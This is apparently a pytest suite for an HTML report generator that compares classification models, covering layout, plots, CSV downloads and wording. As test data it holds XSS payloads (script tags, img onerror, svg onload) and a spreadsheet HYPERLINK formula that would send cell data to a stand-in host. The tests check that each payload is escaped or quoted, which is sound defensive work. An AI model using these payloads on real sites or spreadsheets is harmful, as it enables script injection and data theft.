"""The report page: a view of a ModelComparison.

Structure of the HTML (table of contents, CSV links, legends, prose conclusion), escaping of
every user-supplied string, and the template's promise to display only (no analysis calls).
"""

from __future__ import annotations

import ast
import json
import re
import tempfile
import urllib.parse
import warnings

import numpy as np
import pandas as pd
import pytest

from precmp_lib.compare.predictions import ModelComparison, compare_models
from precmp_lib.report import html as html_kit
from precmp_lib.report import prediction_figures as figures
from precmp_lib.report import prediction_sections as sections
from precmp_lib.report.render import render_report, report_template

HOSTILE_LABEL = "<script>alert(1)</script>"
HOSTILE_MODEL = '"><img src=x onerror=alert(1)>'


def _hostile_frame():
    rng = np.random.default_rng(4)
    labels = np.array([HOSTILE_LABEL, "plain", "$x$ & co"])
    y = rng.integers(0, 3, 300)
    frame = pd.DataFrame({"truth": labels[y]})
    for name, acc in ((HOSTILE_MODEL, 0.9), ("m<b>2</b>", 0.7), ("third", 0.8)):
        frame[name] = labels[np.where(rng.random(300) < acc, y, rng.integers(0, 3, 300))]
    return frame


@pytest.fixture(scope="module")
def hostile_page(tmp_path_factory):
    cmp = compare_models(_hostile_frame(), y_true="truth", prevalence={HOSTILE_LABEL: 0.2},
                         n_boot=200)
    out = tmp_path_factory.mktemp("report") / "hostile.html"
    render_report(cmp, out, quiet=True, source_name='<svg onload=alert(1)>.csv')
    return cmp, out.read_text(encoding="utf-8")


def test_template_contains_no_analysis_calls():
    """Only the view module's display functions, reading the JSON back and nothing else."""
    nb = json.loads(report_template().read_text(encoding="utf-8"))
    allowed_calls = {"Path", "read_text", "from_json"}
    allowed_imports = {"pathlib", "precmp_lib.compare.predictions", "precmp_lib.report"}
    code = [("".join(c["source"])) for c in nb["cells"] if c["cell_type"] == "code"]
    seen_view = 0
    for source in code:
        for node in ast.walk(ast.parse(source)):
            if isinstance(node, ast.ImportFrom):
                assert node.module in allowed_imports, node.module
                names = {a.name for a in node.names}
                assert names <= {"Path", "ModelComparison", "prediction_sections"}, names
            elif isinstance(node, ast.Import):
                pytest.fail(f"the template imports {[a.name for a in node.names]}")
            elif isinstance(node, ast.Call):
                func = node.func
                if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name) \
                        and func.value.id == "view":
                    assert func.attr in sections.__all__ or func.attr == "versions", func.attr
                    seen_view += 1
                else:
                    name = func.attr if isinstance(func, ast.Attribute) else func.id
                    assert name in allowed_calls, f"the template calls {name}"
    assert seen_view >= 8


def test_template_is_stored_without_outputs_with_literal_parameters():
    nb = json.loads(report_template().read_text(encoding="utf-8"))
    assert all(not c.get("outputs") and c.get("execution_count") is None
               for c in nb["cells"] if c["cell_type"] == "code")
    cells = [c for c in nb["cells"] if "parameters" in c.get("metadata", {}).get("tags", [])]
    assert len(cells) == 1
    for node in ast.parse("".join(cells[0]["source"])).body:
        assert isinstance(node, ast.AnnAssign)
        ast.literal_eval(node.value)


def test_no_live_copy_of_hostile_strings(hostile_page):
    _, page = hostile_page
    for bad in (HOSTILE_LABEL, HOSTILE_MODEL, "<img src=x", "<svg onload", "m<b>2</b>"):
        assert bad not in page, bad
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown, as text
    assert "&gt;&lt;img src=x onerror=alert(1)&gt;" in page
    # the only scripts are nbconvert's own (none carry the payload)
    for script in re.findall(r"<script.*?</script>", page, flags=re.S):
        assert "alert(1)" not in script
    # alt text of plots and the CSV data: URIs are escaped too
    alts = re.findall(r"alt=([\"'])(.*?)\1", page)
    assert len(alts) >= 3
    for _, alt in alts:
        assert "<" not in alt and ">" not in alt


def test_page_structure(hostile_page):
    _cmp, page = hostile_page
    # a table of contents whose every link has its target
    nav = re.search(r'<nav class="toc">(.*?)</nav>', page, flags=re.S).group(1)
    anchors = re.findall(r'href="#([^"]+)"', nav)
    assert len(anchors) >= 7
    for a in anchors:
        assert f'id="{a}"' in page, a
    # the conclusion is prose: a sentence and points, never preformatted text
    conclusion = page.split('id="pc-conclusion"', 1)[1].split('id="pc-accuracy"', 1)[0]
    assert "<pre" not in conclusion and conclusion.count("<li>") >= 3
    assert "not shown to differ" in conclusion
    # every table downloadable as CSV from the page itself
    links = re.findall(r'download="([^"]+)" href="data:text/csv;charset=utf-8,([^"]+)"', page)
    names = {n for n, _ in links}
    assert {"accuracy.csv", "pairs.csv", "per_class.csv", "gee_joint.csv", "combined.csv",
            "prevalence.csv"} <= names
    csv = urllib.parse.unquote(dict(links)["pairs.csv"])
    assert csv.splitlines()[0].startswith("model_a,model_b,test,estimate")
    # the accuracy section says what the colours mean
    assert "best group" in page
    assert page.count('class="t"') >= 8
    # one p-value format; no Python repr, no path of this run
    assert "e-0" not in re.sub(r"data:[^\"]+", "", page)
    for leak in ("PosixPath", "precmp-report-", tempfile.gettempdir(), "comparison.json"):
        assert leak not in page, leak


def test_cv_report_renders(tmp_path):
    from precmp_lib.sources.datasets import resource_path

    long = pd.read_csv(resource_path("examples/breast_cancer_cv_long.csv"))
    cmp = compare_models(long, y_true="y_true", n_boot=200)
    out = render_report(cmp, tmp_path / "cv.html", quiet=True, source_name="cv.csv")
    page = out.read_text(encoding="utf-8")
    assert "3 × 5 cross-validation of 569 observations" in page
    assert "corrected repeated k-fold t" in page and "fold_scores.csv" in page


def test_table_html_escapes_and_formats():
    frame = pd.DataFrame({"model": ["<b>x</b>"], "pvalue": [3e-9], "p2_pvalue": [0.38298],
                          "n": [12345], "note": ["a & b"]})
    t = html_kit.table_html(frame, "x")
    assert "<b>x</b>" not in t and "&lt;b&gt;x&lt;/b&gt;" in t
    assert "&lt; 0.0001" in t and "0.3830" in t and "12,345" in t and "a &amp; b" in t
    assert 'download="x.csv"' in t


def _points(fig):
    """Colours of the points of an interval plot, top row first, read from its artists."""
    from matplotlib.colors import to_hex

    ax = fig.axes[0]
    order = np.argsort(-ax.collections[1].get_offsets()[:, 1])
    return [to_hex(ax.collections[1].get_facecolors()[i]) for i in order]


def _legend(fig):
    """(colour, text) of each entry of the figure's legend, read from its handles."""
    from matplotlib.colors import to_hex

    (legend,) = fig.legends
    return [(to_hex(h.get_color()), t.get_text()) for h, t in zip(legend.legend_handles,
                                                                  legend.get_texts())]


# What each colour of the page's language may say, whatever the plot.
MEANS = {"#0072b2": ("best group", "more accurate", "more precise"),
         "#8c8c8c": ("not shown to differ",),
         "#d55e00": ("less accurate", "less precise"),
         "#000000": ("the reference", "differs after Holm")}


def _speaks_the_language(figs):
    for fig in figs:
        entries = _legend(fig)
        assert entries, "every plot has a legend"
        for colour, text in entries:
            assert any(word in text for word in MEANS[colour]), (colour, text)
        drawn = set(_points(fig)) if len(fig.axes[0].collections) > 1 else set()
        assert drawn <= {c for c, _ in entries}  # every colour drawn is explained


@pytest.mark.parametrize("reference", [None, "third"])
def test_plots_speak_one_colour_language(reference):
    import matplotlib.pyplot as plt

    cmp = compare_models(_hostile_frame(), y_true="truth", n_boot=100, reference=reference)
    ranking, forest, rp = figures.ranking_plot(cmp), figures.pairs_forest(cmp), figures.rp_forest(cmp)
    _speaks_the_language([ranking, forest, rp])
    ranked = cmp.summary.sort_values("rank", kind="stable")
    colours = dict(zip(ranked["model"], _points(ranking)))
    pairs_shown = figures.pairs_by_rank(cmp, cmp.pairs)
    if reference is None:
        # the best group blue, the rest vermillion; models in rank order, the rank named
        assert [t.get_text() for t in ranking.axes[0].get_yticklabels()] == [
            figures._mpl(f"{r}. {m}", 60) for m, r in zip(ranked["model"], ranked["rank"])]
        assert colours == {m: "#0072b2" if b else "#d55e00"
                           for m, b in zip(cmp.summary["model"], cmp.summary["best"])}
        # pairs: the better-ranked model first, so a difference shown is blue
        assert _points(forest) == ["#0072b2" if r else "#8c8c8c"
                                   for r in pairs_shown["reject"]]
    else:
        assert colours[reference] == "#000000"
        for r in cmp.pairs.itertuples():
            expected = "#8c8c8c" if not r.reject else "#0072b2" if r.estimate > 0 else "#d55e00"
            assert colours[r.model_a] == expected
        assert _points(forest) == [colours[m] for m in pairs_shown["model_a"]]
    shown = figures.pairs_by_rank(cmp, cmp.per_class).dropna(subset=["rp"])
    assert _points(rp) == ["#8c8c8c" if not p <= cmp.alpha else "#0072b2" if v > 1 else "#d55e00"
                           for p, v in zip(shown["gs_pvalue_adjusted"], shown["rp"])]
    # each pair named once, on its first class, the others by their class; a line between pairs
    pairs = list(dict.fromkeys(zip(shown["model_a"], shown["model_b"])))
    labels = [t.get_text() for t in rp.axes[0].get_yticklabels()]
    named = [t for t in labels if " / " in t]
    assert named == [figures._mpl(f"{a} / {b}: {c}", 60) for (a, b), c in zip(
        pairs, shown.drop_duplicates(["model_a", "model_b"])["class"])]
    assert len(labels) == len(shown)
    rules = [line for line in rp.axes[0].get_lines() if len(set(line.get_ydata())) == 1]
    assert len(rules) == len(pairs) - 1
    plt.close("all")


def test_pairs_matrix_spans_the_differences_and_prints_each_value():
    cmp = compare_models(_hostile_frame(), y_true="truth", n_boot=100)
    fig = figures.pairs_matrix(cmp)
    ax = fig.axes[0]
    (image,) = ax.get_images()
    lim = cmp.pairs["estimate"].abs().max()
    assert (image.norm.vmin, image.norm.vmax) == pytest.approx((-lim, lim))
    assert len(ax.texts) == len(cmp.models) ** 2  # a value in each cell, "–" on the diagonal
    assert [t for _, t in _legend(fig)] == ["the pair differs after Holm's adjustment"]


def _png_pixels(html_or_bytes):
    import base64
    import io

    from PIL import Image

    if isinstance(html_or_bytes, str):
        data = re.search(r'src="data:image/png;base64,([^"]+)"', html_or_bytes).group(1)
        html_or_bytes = base64.b64decode(data)
    return np.asarray(Image.open(io.BytesIO(html_or_bytes)))


@pytest.mark.parametrize("plot", ["ranking_plot", "pairs_forest", "precision_heatmap",
                                  "rp_forest", "pairs_matrix"])
def test_a_figure_laid_out_once_has_the_pixels_savefig_gives(plot):
    # the page fixes each constrained layout before saving, so that it is computed once, not
    # on each of savefig's two draws; the reference is matplotlib's own savefig of the same
    # figure at the page's resolution, the layout engine left in place
    import io

    cmp = compare_models(_hostile_frame(), y_true="truth", n_boot=100)
    ours, theirs = getattr(figures, plot)(cmp), getattr(figures, plot)(cmp)
    tight = any(ax.get_aspect() != "auto" for ax in theirs.axes)
    buf = io.BytesIO()
    theirs.savefig(buf, format="png", dpi=figures.PAGE_DPI, bbox_inches="tight" if tight else None)
    assert theirs.get_layout_engine() is not None
    page = figures._figure_html(ours, "alt")
    assert (ours.get_layout_engine() is None) != tight  # laid out once unless cropped
    expected, got = _png_pixels(buf.getvalue()), _png_pixels(page)
    assert got.shape == expected.shape
    assert np.array_equal(got, expected)


def test_a_pyplot_figure_keeps_its_canvas_and_layout():
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(layout="constrained")
    ax.plot([0, 1], [1, 0])
    canvas = fig.canvas
    assert 'src="data:image/png;base64,' in figures._figure_html(fig, "a line")
    assert fig.canvas is canvas and fig.get_layout_engine() is not None
    plt.close(fig)


def test_labels_the_plot_font_cannot_draw_are_noted_not_warned(tmp_path):
    # U+0378 is unassigned in Unicode, so no font has a glyph for it, on any machine; the page
    # says under each such plot that boxes stand for those characters, matplotlib's warning
    # does not reach the caller, and the tables give the labels in full
    rng = np.random.default_rng(9)
    labels = np.array(["odd \u0378 class", "plain"])
    y = rng.integers(0, 2, 400)
    frame = pd.DataFrame({"truth": labels[y]})
    for name, acc in (("a", 0.9), ("b", 0.7)):
        frame[name] = labels[np.where(rng.random(400) < acc, y, rng.integers(0, 2, 400))]
    cmp = compare_models(frame, y_true="truth", n_boot=50)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        render_report(cmp, tmp_path / "odd.html", quiet=True)
    assert not [w for w in caught if "missing from font" in str(w.message)]
    page = (tmp_path / "odd.html").read_text(encoding="utf-8")
    assert figures.MISSING_GLYPHS in page
    assert "odd \u0378 class</td>" in page  # a table cell


def test_a_page_whose_labels_every_font_draws_has_no_glyph_note(hostile_page):
    assert figures.MISSING_GLYPHS not in hostile_page[1]


class _Outline(__import__("html.parser").parser.HTMLParser):
    """The page's elements in order: (tag, class, text) of headings, paragraphs and items."""

    def __init__(self):
        super().__init__()
        self.items, self.stack = [], []

    def handle_starttag(self, tag, attrs):
        self.stack.append([tag, dict(attrs).get("class", ""), ""])
        if tag in ("table", "img"):
            self.items.append((tag, "", ""))

    def handle_endtag(self, tag):
        while self.stack:
            open_tag, cls, text = self.stack.pop()
            if open_tag in ("h1", "h2", "p", "li", "ul"):
                self.items.append((open_tag, cls, " ".join(text.split())))
            if self.stack:
                self.stack[-1][2] += text
            if open_tag == tag:
                break

    def handle_data(self, data):
        if self.stack:
            self.stack[-1][2] += data


def _first_screen(page):
    """What the page shows before its first table or plot."""
    outline = _Outline()
    outline.feed(page)
    first = next(i for i, (tag, _, _) in enumerate(outline.items) if tag in ("table", "img"))
    return outline.items[:first]


@pytest.mark.parametrize("kind", ["every pair", "reference", "cv"])
def test_first_screen_is_design_recommendation_and_five_points(kind, tmp_path):
    from precmp_lib.sources.datasets import resource_path

    if kind == "cv":
        frame = pd.read_csv(resource_path("examples/breast_cancer_cv_long.csv"))
        cmp = compare_models(frame, y_true="y_true", n_boot=100)
    else:
        cmp = compare_models(_hostile_frame(), y_true="truth", n_boot=100,
                             reference="third" if kind == "reference" else None)
    page = render_report(cmp, tmp_path / "p.html", quiet=True, source_name="p.csv").read_text()
    screen = _first_screen(page)
    design = [t for tag, cls, t in screen if cls == "design"]
    rec = [t for tag, cls, t in screen if cls == "rec"]
    points = [t for tag, cls, t in screen if tag == "ul" and cls == "points"]
    assert len(design) == len(rec) == len(points) == 1
    assert design[0].startswith("p.csv · " + cmp.design["description"])
    # one sentence that decides: use one model, keep the reference, or a tie to choose within
    (sentence,) = rec
    assert re.fullmatch(r"(Use .*|Keep the reference .*|.* not shown to differ in accuracy.*; choose on cost or "
                        r"simplicity|.* are more accurate than the reference .*)\.", sentence)
    assert not re.search(r"\. [A-Z]", sentence)
    items = [t for tag, cls, t in screen if tag == "li" and cls == ""]
    bullets = [t for t in items if t in points[0]]
    assert 1 <= len(bullets) <= 5 and all(len(b) <= 200 for b in bullets)
    # nothing between the title and the recommendation but the question and the design
    at = next(i for i, (_, cls, _) in enumerate(screen) if cls == "rec")
    assert [t for tag, _, t in screen[:at] if tag in ("h1", "h2", "h3")] == [
        "Comparison report", "Recommendation"]
    assert [cls for tag, cls, _ in screen[:at] if tag == "p"] == ["", "design"]  # the question
    # no nested brackets anywhere in the page's words
    words = re.sub(r"<[^>]+>", " ", re.sub(r"<(style|script)\b.*?</\1>", "", page, flags=re.S))
    assert not re.search(r"\([^()]*\(", words), re.search(r".{40}\([^()]*\(.{40}", words)


def _print_rules(page):
    """The declarations of the page's @media print blocks, as {selector: declarations}."""
    rules = {}
    for found in re.finditer(r"@media print\{", page):
        start = found.end()
        depth, i = 1, start
        while depth:
            depth += {"{": 1, "}": -1}.get(page[i], 0)
            i += 1
        for selectors, body in re.findall(r"([^{}]+)\{([^{}]*)\}", page[start:i - 1]):
            for sel in selectors.split(","):
                rules[sel.strip()] = rules.get(sel.strip(), "") + body + ";"
    return rules


def test_print_stylesheet_prints_every_row_and_column(hostile_page):
    cmp, page = hostile_page
    rules = _print_rules(page)
    # the scrolling boxes grow to their tables, the tables wrap to the paper's width
    assert "overflow:visible" in rules[".pcr .box"] and "max-height:none" in rules[".pcr .box"]
    assert "max-width:none" in rules[".pcr .box"]
    assert "white-space:normal" in rules[".pcr table.t td.note"]
    assert "position:static" in rules[".pcr table.t th"]
    # folded views print open
    assert "content-visibility:visible" in rules[".pcr details::details-content"]
    # every row is in the page (up to max_rows) and every table keeps its CSV download
    assert page.count('<div class="tables">') >= 10
    for group in re.split(r'<div class="tables">', page)[1:]:
        assert 'download="' in group.split('<div class="tables">')[0]
    per_class = page.split('download="per_class.csv"')[0].rsplit('<div class="tables">', 1)[-1]
    assert per_class.count("<tr>") == 1 + len(cmp.per_class)  # header and every row


def test_small_sample_warnings_are_one_line_per_kind_with_the_list_behind_details():
    # 20 observations; three models that each disagree with the others on few observations
    y = np.array([0, 1, 2, 0] * 5)
    frame = pd.DataFrame({"y": y, "a": y, "b": np.where(np.arange(20) < 3, (y + 1) % 3, y),
                          "c": np.where(np.arange(20) >= 16, (y + 1) % 3, y)})
    cmp = compare_models(frame, y_true="y", n_boot=100)
    block = str(sections.section_conclusion(cmp))
    warn = block[block.index('<div class="warn">'):]
    warn = warn[:warn.index("</div>")]
    lines = re.findall(r"<ul>(.*)</ul>", warn, flags=re.S)[0]
    assert lines.count("<details>") == sum(1 for items in cmp.warning_items if items)
    for line, items in zip(cmp.warnings, cmp.warning_items):
        assert html_kit.esc(line) in warn
        label = "which one" if len(items) == 1 else f"which ones ({len(items)})"
        if items:
            assert f"<summary>{label}</summary>" in warn
            assert all(f"<li>{html_kit.esc(w)}</li>" in warn for w in items)
    assert any(len(items) > 1 for items in cmp.warning_items)  # the plural label was shown


def test_many_models_fold_the_detail_lines_and_group_digits():
    """46 models, 1,035 pairs: counts carry thousands separators, and "In detail" shows its first
    lines with the others folded (the best model's pair with each of 45 others)."""
    rng = np.random.default_rng(8)
    y = rng.integers(0, 3, 300)
    frame = pd.DataFrame({"y": y})
    for j in range(46):
        frame[f"m{j:02d}"] = np.where(rng.random(300) < 0.55 + 0.009 * j, y, rng.integers(0, 3, 300))
    cmp = compare_models(frame, y_true="y", n_boot=200, family="all")
    assert len(cmp.pairs) == 46 * 45 // 2 == 1035
    html = str(sections.section_conclusion(cmp))
    assert any(" of 1,035" in line for line in cmp.conclusions)
    assert "1035" not in html and "1,035" in html
    detail = html.split("<h3>In detail</h3>", 1)[1]
    first, folded = detail.split('<details class="more">', 1)
    assert first.count("<li>") == sections.DETAIL_LINES
    assert folded.count("<li>") == len(cmp.details) - sections.DETAIL_LINES > 0
    assert f"<summary>{len(cmp.details) - sections.DETAIL_LINES:,} more lines</summary>" in folded
    assert "every pair of the 46 models, 1,035 pairs" in str(sections.section_pairs(cmp))


def test_first_screen_counts_read_as_sentences():
    """One pair that does not differ and one class compared: "0 of 1." and "1 class comparison";
    of three pairs, two differing name the other, one differing the others."""
    one = compare_models(pd.DataFrame({"y": ["x", "x", "x"], "a": ["x", "x", "x"],
                                       "b": ["x", "x", "z"]}), y_true="y", n_boot=200)
    lines = " ".join(one.conclusions)
    assert "at α = 0.05: 0 of 1." in lines
    assert "0 of 1 class comparison (GS test)" in lines
    rng = np.random.default_rng(3)
    y = rng.integers(0, 2, 400)
    frame = pd.DataFrame({"y": y, "a": y, "b": np.where(rng.random(400) < 0.7, y, 1 - y),
                          "c": np.where(rng.random(400) < 0.72, y, 1 - y)})
    three = " ".join(compare_models(frame, y_true="y", n_boot=200).conclusions)
    assert "0.05: 2 of 3; the other is not shown to differ." in three
    assert "of 6 class comparisons (GS test)" in three  # 3 pairs x 2 classes
    from precmp_lib.compare.prediction_conclusions import _bullets_all_pairs

    summary = pd.DataFrame({"model": ["a", "b", "c"], "rank": [1, 2, 3], "accuracy": [.9, .8, .7]})
    pairs = pd.DataFrame({"model_a": ["a", "a", "b"], "model_b": ["b", "c", "c"],
                          "reject": [False, True, False]})
    one_of_three = " ".join(_bullets_all_pairs(["a", "b"], summary, pairs, 0.05))
    assert "0.05: 1 of 3; the others are not shown to differ." in one_of_three


def test_progress_goes_over_the_pairs_and_changes_nothing(monkeypatch):
    """compare_models(progress=True) runs the class-by-class tests behind a tqdm bar on stderr
    (shown after a second), and gives the same comparison as without it."""
    import sys

    import tqdm.auto

    seen = []

    def recording_bar(items, **kwargs):
        seen.append((len(items), kwargs))
        return items

    monkeypatch.setattr(tqdm.auto, "tqdm", recording_bar)
    frame = _hostile_frame()
    quiet = compare_models(frame, y_true="truth", n_boot=200)
    shown = compare_models(frame, y_true="truth", n_boot=200, progress=True)
    assert shown.to_json() == quiet.to_json()
    assert [n for n, _ in seen] == [len(quiet.pairs)]
    assert seen[0][1]["delay"] == 1.0 and seen[0][1]["file"] is sys.stderr


def test_csv_downloads_quote_what_a_spreadsheet_would_run():
    import csv
    import io
    import urllib.parse

    from precmp_lib.report.html import csv_link

    names = ['=HYPERLINK("http://x/?d="&A2,"a")', "+1", "-x", "@SUM(1)", "\tA", "\rB", "plain", "a=b"]
    frame = pd.DataFrame({"model": names, "difference": [-0.5, 0.25, 0, 1, 2, 3, 4, 5]})
    link = csv_link(frame, "accuracy.csv")
    data = urllib.parse.unquote(link.split("charset=utf-8,", 1)[1].split('"', 1)[0])
    rows = list(csv.reader(io.StringIO(data, newline="")))
    # OWASP's rule: a text starting with = + - @ tab or CR gets a leading quote; numbers stay
    assert [r[0] for r in rows[1:]] == ["'" + n for n in names[:6]] + names[6:]
    assert [float(r[1]) for r in rows[1:]] == frame["difference"].tolist()


# ------------------------------------------------------------------------------------------
# one procedure for a decision and its interval; rank order; the precision heat map
# ------------------------------------------------------------------------------------------


def _page_tables(page, section):
    """Each HTML table of a section of the page, as a list of {header: cell text} rows."""
    import html as html_lib

    start = page.index(f'id="{section}"')
    end = page.find("<h2 ", start)
    body = page[start:end if end > 0 else None]
    tables = []
    for table in re.findall(r"<table.*?</table>", body, flags=re.S):
        heads = [html_lib.unescape(h) for h in re.findall(r"<th(?: [^>]*)?>(.*?)</th>", table)]
        rows = [[html_lib.unescape(c) for c in re.findall(r"<td(?: [^>]*)?>(.*?)</td>", tr)]
                for tr in re.findall(r"<tr>(<td.*?)</tr>", table)]
        tables.append([dict(zip(heads, r)) for r in rows])
    return tables


def _five_models_frame(seed=5, n=400):
    """Five models whose pairs sit near Holm's thresholds at alpha = 0.1 (seed 5: three pairs
    with an unadjusted interval clear of 0 that Holm does not reject)."""
    rng = np.random.default_rng(seed)
    y = rng.integers(0, 3, n)
    frame = pd.DataFrame({"y": y})
    for i, acc in enumerate((0.86, 0.84, 0.83, 0.82, 0.8)):
        frame[f"m{i}"] = np.where(rng.random(n) < acc, y, rng.integers(0, 3, n))
    return frame


@pytest.fixture(scope="module")
def alpha_page(tmp_path_factory):
    from precmp_lib.cli import main

    folder = tmp_path_factory.mktemp("alpha")
    # the columns not in accuracy order, so that rank order and the data's order differ
    _five_models_frame()[["y", "m3", "m0", "m4", "m1", "m2"]].to_csv(folder / "five.csv",
                                                                     index=False)
    out = folder / "five.html"
    assert main(["report", str(folder / "five.csv"), "--y-true", "y", "--alpha", "0.1",
                 "--n-resamples", "100", "--quiet", "--out", str(out),
                 "--json", str(folder / "five.json")]) == 0
    cmp = ModelComparison.from_json((folder / "five.json").read_text(encoding="utf-8"))
    return cmp, out.read_text(encoding="utf-8")


def test_every_interval_beside_a_holm_decision_excludes_0_exactly_when_holm_rejects(alpha_page):
    cmp, page = alpha_page
    rows = _page_tables(page, "pc-pairs")[0]  # the table beside the plot: decision and interval
    assert len(rows) == len(cmp.pairs) == 10
    low = next(h for h in rows[0] if h.endswith("ci_low"))
    high = next(h for h in rows[0] if h.endswith("ci_high"))
    for row in rows:
        excludes = float(row[low]) > 0 or float(row[high]) < 0
        assert excludes == (row["reject"] == "yes"), row
    # the plot: each pair's colour follows its interval drawn, grey exactly when it holds 0
    fig = figures.pairs_forest(cmp)
    ax = fig.axes[0]
    segments = ax.collections[0].get_segments()  # top row first, like the points
    colours = _points(fig)
    assert len(segments) == len(colours) == 10
    for seg, colour in zip(segments, colours):
        (x0, _), (x1, _) = seg
        holds_zero = x0 <= 0 <= x1
        assert holds_zero == (colour == "#8c8c8c"), (x0, x1, colour)
    # the sentences beside a decision quote that interval, not the unadjusted one
    for line in cmp.details:
        if "after Holm" in line and "CI" in line:
            assert "at Holm's step" in line
    plt_close()


def plt_close():
    import matplotlib.pyplot as plt

    plt.close("all")


def test_models_pairs_and_precision_tables_follow_the_rank(alpha_page):
    cmp, page = alpha_page
    ranked = cmp.summary.sort_values("rank", kind="stable")
    order = list(ranked["model"])
    assert order != list(cmp.models)  # the data's order is not the rank's here
    accuracy = _page_tables(page, "pc-accuracy")[0]
    assert [r["model"] for r in accuracy] == order
    assert [int(r["rank"]) for r in accuracy] == sorted(cmp.summary["rank"])
    labels = [t.get_text() for t in figures.ranking_plot(cmp).axes[0].get_yticklabels()]
    assert labels == [f"{r}. {m}" for m, r in zip(ranked["model"], ranked["rank"])]
    assert "Models are in the order of their rank, 1 = most accurate" in page
    pos = {m: i for i, m in enumerate(order)}
    pairs = _page_tables(page, "pc-pairs")[0]
    keys = [(pos[r["model_a"]], pos[r["model_b"]]) for r in pairs]
    assert keys == sorted(keys)
    precision = _page_tables(page, "pc-precision")
    assert [h for h in precision[0][0] if h != "class"] == order  # precision per class and model
    assert [h for h in precision[1][0] if h.startswith("n_pred ")] == [f"n_pred {m}" for m in order]
    per_class = precision[-1]  # the paired tests per class, pairs in rank order
    keys = [(pos[r["model_a"]], pos[r["model_b"]]) for r in per_class]
    assert keys == sorted(keys)
    plt_close()


def test_precision_heat_map_shows_the_difference_from_the_best_grey_where_not_shown(alpha_page):
    from matplotlib.colors import to_rgba

    from precmp_lib.report.html import NOT_SHOWN

    cmp, _ = alpha_page
    fig = figures.precision_heatmap(cmp)
    ax = fig.axes[0]
    best = cmp.best[0]
    order = list(cmp.summary.sort_values("rank", kind="stable")["model"])
    assert [t.get_text().split(". ", 1)[1].removesuffix(" (best)")
            for t in ax.get_xticklabels()] == order
    (image,) = ax.get_images()
    rgba = image.get_array()
    prec = cmp.precision.set_index("class")[order]
    k, m = prec.shape
    assert rgba.shape[:2] == (k, m)
    texts = [t.get_text() for t in ax.texts]
    # the diverging scale is centred at 0: its colour bar runs from -x to +x
    bar = next(a for a in fig.axes if a is not ax)
    lo, hi = bar.get_ylim()
    assert lo == pytest.approx(-hi)
    pc = cmp.per_class
    grey = np.array(to_rgba(NOT_SHOWN, 0.45))
    seen_grey = seen_colour = 0
    for i, label in enumerate(prec.index):
        for j, model in enumerate(order):
            text = texts[i * m + j]
            if model == best:  # the best model's own precision, on white
                assert text == f"{prec.loc[label, best]:.2f}"
                continue
            diff = prec.loc[label, model] - prec.loc[label, best]
            assert text == f"{diff:+.2f}"  # difference from the best, computed here
            row = pc[(pc["class"] == label) & (((pc.model_a == model) & (pc.model_b == best))
                                               | ((pc.model_a == best) & (pc.model_b == model)))]
            shown = bool((row["gs_pvalue_adjusted"] <= cmp.alpha).any())
            is_grey = np.allclose(rgba[i, j], grey)
            assert is_grey == (not shown), (label, model)
            seen_grey += is_grey
            seen_colour += not is_grey
    assert seen_grey and seen_colour  # both kinds of cell occur on this page
    plt_close()


# --------------------------------------------------------------------------------------------
# many models: the ranking against the leader on the first screen, every pair as one heat map
# --------------------------------------------------------------------------------------------


def _many_wide(m: int, names: list[str] | None = None, n: int = 400) -> pd.DataFrame:
    rng = np.random.default_rng(11)
    y = rng.integers(0, 3, n)
    names = names or [f"m{j:02d}" for j in range(m)]
    return pd.DataFrame({"y": y, **{name: np.where(rng.random(n) < 0.5 + 0.025 * j, y,
                                                   rng.integers(0, 3, n))
                                    for j, name in enumerate(names)}})


def _heat_cells(page: str) -> tuple[list[str], np.ndarray, np.ndarray, float]:
    import base64
    import html

    box = re.search(r'<div class="heatmap" ([^>]*)>', page).group(1)
    attrs = dict(re.findall(r'data-([a-z]+)="([^"]*)"', box))
    scale = float(attrs["scale"])
    diff = np.frombuffer(base64.b64decode(attrs["diff"]), dtype="<i2") * scale / 32767
    logp = np.frombuffer(base64.b64decode(attrs["logp"]), dtype="<u2") / 1000
    return json.loads(html.unescape(attrs["names"])), diff, logp, scale


def test_many_models_lead_with_the_ranking_against_the_leader_and_one_heat_map():
    cmp = compare_models(_many_wide(12), y_true="y", n_boot=100)
    first = str(sections.section_conclusion(cmp))
    leader = cmp.settings["leader"]
    assert "Ranking, each model against the leader" in first
    assert f"Each model is tested against the leader, the most accurate model, {leader} " in first
    assert "11 pairs, not 66" in first
    pairs_html = str(sections.section_pairs(cmp))
    assert pairs_html.count('<div class="heatmap"') == 1
    # one image: the heat map's still, shown where the page's script does not run
    assert pairs_html.count("<img") == 1 and '<div class="hm-static"><p><img' in pairs_html
    assert "<img" not in str(sections.section_accuracy(cmp))  # the ranking has the intervals
    # the heat map holds every pair of the all-pairs table, within its quantisation
    names, diff, logp, scale = _heat_cells(pairs_html)
    assert names == list(cmp.summary.sort_values("rank", kind="stable")["model"])
    k, position = len(names), {m: i for i, m in enumerate(names)}
    assert len(cmp.all_pairs) == len(diff) == 66
    for r in cmp.all_pairs.itertuples():
        a, b = position[r.model_a], position[r.model_b]
        lo, hi, sign = min(a, b), max(a, b), 1 if a < b else -1
        n = lo * k - lo * (lo + 1) // 2 + (hi - lo - 1)
        assert sign * diff[n] == pytest.approx(r.estimate, abs=scale / 32767)
        assert logp[n] == pytest.approx(-np.log10(max(r.pvalue_adjusted, 1e-65)), abs=1e-3)


def test_up_to_ten_models_the_page_has_no_ranking_block_nor_heat_map():
    cmp = compare_models(_many_wide(10), y_true="y", n_boot=100)
    assert len(cmp.pairs) == 45 and cmp.all_pairs.empty
    assert "Ranking, each model against" not in str(sections.section_conclusion(cmp))
    assert "heatmap" not in str(sections.section_pairs(cmp))


def test_hostile_names_reach_the_prediction_heat_map_as_text():
    names = [f"<script>alert({j})</script>" if j == 3 else f'm"{j}&' for j in range(12)]
    cmp = compare_models(_many_wide(12, names), y_true="y", n_boot=100)
    page = str(sections.section_conclusion(cmp)) + str(sections.section_pairs(cmp))
    assert "<script>alert(3)" not in page
    assert sorted(_heat_cells(page)[0]) == sorted(names)


def test_the_reference_is_the_family_of_the_many_model_page():
    frame = _many_wide(12)
    cmp = compare_models(frame, y_true="y", n_boot=100, reference="m04")
    assert len(cmp.pairs) == 11 and set(cmp.pairs["model_b"]) == {"m04"}
    first = str(sections.section_conclusion(cmp))
    assert "Each model is tested against the reference, m04 (--reference; 11 pairs)" in first
    assert "Ranking, each model against the reference" in first
